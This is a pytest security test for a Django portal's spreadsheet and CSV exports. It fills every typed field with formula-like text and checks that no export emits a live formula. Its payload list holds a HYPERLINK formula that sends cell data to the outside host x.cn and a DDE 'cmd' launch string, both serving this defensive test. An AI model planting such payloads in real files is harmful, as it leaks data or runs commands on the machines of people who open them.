"""No export the portal offers turns text into a live formula (issue 23.2).

Everything people can type (org unit and indicator names, remarks, notes, return reasons, every register's
free text, people's names) is set to text starting with = + - @, tab or CR; then every door of the door
matrix is fetched as bureau staff, a leader and both townships, and every admin's import-export format is
exported. Each .xlsx is opened with openpyxl and fails on a formula cell or on formula-like text without
Excel's quote prefix; each .csv fails on formula-like text without the leading apostrophe. The exports
are found, not listed: a new export door must be declared in the door matrix (test_door_matrix.py fails
otherwise), and is then fetched and scanned here."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from django.apps import apps
from django.contrib import admin
from django.db import models
from django.db.models import CharField, Value
from django.db.models.functions import Cast, Concat, Left, Mod
from django.db.models.lookups import Exact
from django.test import Client
from import_export.admin import ImportExportMixin

from common.export_formats import SAFE_FORMATS, SafeCSV
from common.xlsx import FORMULA_STARTS
from tests.security.test_door_matrix import DOORS, _admin_urls, _url, world  # noqa: F401 (fixture)

# Head and tail of the text each row gets, by pk modulo their number, so every kind of start is in every
# table; the row's pk comes right after the head, so unique fields stay unique when cut to their length.
HOSTILE = [
    ("=", '&HYPERLINK("http://x.cn/?"&C6,"园林街道")'),
    ("+", "+cmd|' /C calc'!A0"),
    ("-", "+3"),
    ("@SUM(", ")"),
    ("\t=", "+1"),
    ("\r=", "+1"),
]
# Text that is not typed by people but is a key or drives behaviour: codes in URLs and files, the
# username, the password hash, the register feeding an indicator, a file's hash and sheet, a channel.
KEPT = {
    "orgs.OrgUnit.code",
    "indicators.Indicator.code",
    "indicators.Indicator.fed_by",
    "accounts.User.username",
    "accounts.User.password",
    "reporting.Submission.file_sha256",
    "reporting.Submission.original_filename",
    "reporting.SubmissionValue.sheet",
    "notices.Delivery.channel",
}
ROLES = ("bureau", "leader", "a", "b")
# What the scan must have found (by URL name), so that an empty scan cannot pass.
KNOWN_EXPORTS = {
    "reporting:template",
    "reporting:status-export",
    "dashboard:cockpit-xlsx",
    "dashboard:ranking-xlsx",
    "dashboard:scorecard-xlsx",
    "entry:split-export",
}
# A township's own upload comes back as it sent it (reporting.services.files.submission_file): scanned, but
# written before the renaming, so it need not carry the formula-like text.
AS_SENT = {"reporting:file"}
PROJECT_APPS = {"orgs", "accounts", "indicators", "completion", "registers", "reporting", "notices", "entry"}


def _typed_text_fields(model) -> list[models.Field]:
    return [
        f
        for f in model._meta.concrete_fields
        if isinstance(f, (models.CharField, models.TextField))
        and not f.choices
        and not f.primary_key
        and f"{model._meta.label}.{f.name}" not in KEPT
    ]


def _hostile(field: models.Field):
    pk = Cast("pk", CharField())
    whens = [
        models.When(Exact(Mod("pk", len(HOSTILE)), n), then=Concat(Value(head), pk, Value(tail)))
        for n, (head, tail) in enumerate(HOSTILE)
    ]
    text = models.Case(*whens, output_field=models.TextField())
    return Left(text, field.max_length) if field.max_length else text


def _everything_typed_looks_like_a_formula() -> int:
    from django.conf import settings

    changed = 0
    for model in apps.get_models():
        if model._meta.app_label not in PROJECT_APPS | set(settings.DOMAIN_APPS):
            continue
        fields = _typed_text_fields(model)
        if fields:
            changed += model.objects.update(**{f.name: _hostile(f) for f in fields})
    return changed


@pytest.fixture
def hostile_world(db, request):
    """The door matrix's world (users of every role, a submission of each township), then renamed.
    (`db` asked by name: pytest-django orders and sets up the database by the fixtures it can see.)"""
    users_and_submissions = request.getfixturevalue("world")
    assert _everything_typed_looks_like_a_formula() > 1000
    return users_and_submissions


def _is_xlsx(content: bytes) -> bool:
    if content[:2] != b"PK":
        return False
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return "xl/workbook.xml" in package.namelist()


def _starts_like_a_formula(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def _xlsx_findings(content: bytes) -> tuple[list[str], int]:
    """(live cells, formula-like texts safely kept as text) of a workbook."""
    live, kept = [], 0
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    live.append(f"{sheet.title}!{cell.coordinate} formula {cell.value!r}")
                elif _starts_like_a_formula(cell.value):
                    if cell.data_type == "s" and cell.quotePrefix:
                        kept += 1
                    else:
                        live.append(f"{sheet.title}!{cell.coordinate} unprotected {cell.value!r}")
    return live, kept


def _csv_findings(text: str) -> tuple[list[str], int]:
    live, kept = [], 0
    for number, row in enumerate(csv.reader(io.StringIO(text)), start=1):
        for value in row:
            if _starts_like_a_formula(value):
                live.append(f"row {number}: {value!r}")
            elif value[:1] == "'" and _starts_like_a_formula(value[1:]):
                kept += 1
    return live, kept


def _client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


class Scan:
    def __init__(self):
        self.failures: list[str] = []
        self.found: dict[str, int] = {}  # export (URL name or admin export) -> formula-like texts kept

    def xlsx(self, name: str, where: str, content: bytes) -> None:
        live, kept = _xlsx_findings(content)
        self.failures += [f"{where}: {problem}" for problem in live]
        self.found[name] = self.found.get(name, 0) + kept


def _with_month(url: str) -> str:
    """The same door on a month with submissions, figures and remarks (the world's December 2024)."""
    return url + ("&" if "?" in url else "?") + "year=2024&month=12"


def _scan_doors(scan: Scan, users, submissions) -> None:
    clients = {role: _client(users[role]) for role in ROLES}
    for key, door in DOORS.items():
        url = _url(key, door, {}, submissions)
        for role, client in clients.items():
            response = client.get(url)
            if response.status_code == 500:
                scan.failures.append(f"{role} GET {url}: 500")
            if response.status_code != 200 or not _is_xlsx(response.content):
                continue
            scan.xlsx(key.split("?")[0], f"{role} GET {url}", response.content)
            again = client.get(_with_month(url))
            if again.status_code == 200 and _is_xlsx(again.content):
                scan.xlsx(key.split("?")[0], f"{role} GET {_with_month(url)}", again.content)


def _scan_admin_pages(scan: Scan, users) -> None:
    client = _client(users["bureau"])
    for url, _, route in _admin_urls():
        response = client.get(url)
        if response.status_code == 200 and _is_xlsx(response.content):
            scan.xlsx(route, f"bureau GET {url}", response.content)


def _scan_admin_exports(scan: Scan, users) -> None:
    client = _client(users["root"])
    for model, model_admin in admin.site._registry.items():
        if not isinstance(model_admin, ImportExportMixin):
            continue
        url = f"/admin/{model._meta.app_label}/{model._meta.model_name}/export/"
        resource = model_admin.get_export_resource_classes(None)[0]
        prefix = resource.__name__.lower()
        ticked = {f"{prefix}_{name}": "on" for name in resource().get_export_order()}
        for index, file_format in enumerate(SAFE_FORMATS):
            response = client.post(url, {"format": str(index), "resource": "0", **ticked})
            where = f"POST {url} ({file_format().get_title()})"
            if file_format is SafeCSV:
                live, kept = _csv_findings(response.content.decode("utf-8-sig"))
                scan.failures += [f"{where}: {problem}" for problem in live]
                scan.found[where] = kept
            else:
                assert _is_xlsx(response.content), where
                scan.xlsx(where, where, response.content)


def test_no_export_the_portal_offers_holds_a_live_formula(hostile_world):
    users, submissions = hostile_world
    scan = Scan()

    _scan_doors(scan, users, submissions)
    _scan_admin_pages(scan, users)
    _scan_admin_exports(scan, users)

    assert not scan.failures, "\n" + "\n".join(scan.failures)
    assert set(scan.found) >= KNOWN_EXPORTS, f"exports not found: {KNOWN_EXPORTS - set(scan.found)}"
    # Each export carried some of the formula-like text, kept as text: the scan looked at real content.
    empty = sorted(name for name, kept in scan.found.items() if not kept and name not in AS_SENT)
    assert not empty, f"exports without any of the formula-like text (did the renaming reach them?): {empty}"
